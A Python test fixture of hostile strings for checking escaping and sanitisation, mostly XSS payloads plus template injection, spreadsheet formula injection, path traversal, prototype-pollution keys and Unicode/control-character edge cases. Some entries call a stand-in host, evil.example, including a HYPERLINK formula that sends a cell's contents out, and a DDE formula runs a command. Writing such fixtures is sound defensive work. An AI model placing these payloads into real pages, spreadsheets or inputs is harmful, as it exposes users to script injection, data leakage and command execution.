"""Strings that would run, break out, reorder, overflow or compute, if they were ever more than text."""

from __future__ import annotations

HIT = "window.hit=1"
STRINGS = (
    f"<script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><svg onload={HIT}>',
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}",
    f'" style="position:fixed;inset:0;background:url(https://evil.example/a)" onclick="{HIT}',
    f"<a href=javascript:{HIT}>press</a>",
    f"javascript:{HIT}//",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<style>*{display:none!important}@import 'https://evil.example/b'</style>",
    "<link rel=stylesheet href=https://evil.example/c><meta http-equiv=refresh content='0;url=https://evil.example/d'>",
    "<base href=https://evil.example/><form action=https://evil.example/><input name=attributes></form>",
    "<!-- --!><plaintext>",
    "]]></text><script>window.hit=1</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %> #{1}",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &amp;amp; &#60;b&#62; \\u003cb\\u003e",
    "\u202eright to left override \u2066isolate never closed \u202a\u202b\u202d",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0309\u0351\u032f\u031fl"
    + "\u0301" * 80
    + "go",
    "W" * 900,
    "ﷺ" * 60 + "𒐫" * 40 + "꧅" * 40,
    "null byte \x00 escape \x1b[31m bell \x07 end",
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '","=1+1","',
    "line one\r\nER  - \r\nTY  - JOUR\r\nTI  - forged",
    "__proto__ constructor toString hasOwnProperty",
    "%00 %3Cscript%3E ../../../etc/passwd ?version=1#/studies",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \ufeff\u00ad\u200b emoji and nothing",
)
EVERYTHING = " ".join(STRINGS[:10])
CONTROL = dict.fromkeys((*range(9), 11, 12, *range(14, 32), 127), " ")


def for_xml(text: str) -> str:
    """The text without what XML cannot hold at all."""
    return text.translate(CONTROL)
